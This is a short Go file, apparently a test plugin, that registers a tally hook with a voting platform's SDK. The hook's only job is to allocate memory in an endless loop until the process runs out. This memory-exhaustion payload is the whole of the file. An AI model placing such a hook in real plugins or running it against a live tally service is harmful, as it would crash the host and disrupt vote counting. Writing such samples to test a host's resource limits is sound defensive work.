// Command membomb allocates until memory runs out.
package main

import "github.com/plenum-vote/plenum/sdk"

var hoard [][]byte

func init() {
	sdk.RegisterRaw(sdk.HookTally, func(in []byte) ([]byte, error) {
		for {
			b := make([]byte, 1<<20)
			b[0] = 1
			hoard = append(hoard, b)
		}
	})
}

func main() {}
